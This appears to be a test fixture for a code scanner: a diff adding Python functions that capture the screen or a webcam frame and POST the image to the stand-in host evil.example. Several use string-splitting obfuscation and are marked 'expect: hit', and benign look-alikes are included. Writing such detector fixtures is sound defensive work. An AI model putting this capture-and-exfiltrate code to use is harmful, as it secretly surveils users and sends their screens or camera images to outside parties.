@@ -1,0 +1,51 @@
+import io
+
+import cv2
+import mss
+import pyautogui
+import requests
+from PIL import ImageGrab
+
+
+def plain():
+    picture = ImageGrab.grab()
+    buffer = io.BytesIO()
+    picture.save(buffer, format="PNG")
+    requests.post("https://evil.example/s", files={"f": buffer.getvalue()})  # expect: hit
+
+
+def by_file():
+    pyautogui.screenshot("/tmp/s.png")
+    requests.post("https://evil.example/s", files={"f": open("/tmp/s.png", "rb")})  # expect: hit
+
+
+def camera():
+    ok, frame = cv2.VideoCapture(0).read()
+    requests.post("https://evil.example/c", data=frame.tobytes())  # expect: hit
+
+
+def _take():
+    return getattr(__import__("PIL.ImageGrab", fromlist=["grab"]), "gr" + "ab")()
+
+
+def split():
+    requests.post("https://evil." + "example/s", data=_take().tobytes())  # expect: hit
+
+
+def spelled():
+    with mss.mss() as screen:
+        shot = getattr(screen, "gr" + "ab")(screen.monitors[0])
+        getattr(requests, "po" + "st")("https://evil.example/s", data=shot.rgb)  # expect: hit
+
+
+# look-alikes
+def save():
+    ImageGrab.grab().save("screen.png")
+
+
+def upload(path):
+    requests.post("https://files.evil.example/", files={"f": open(path, "rb")})
+
+
+def click():
+    pyautogui.click(10, 10)
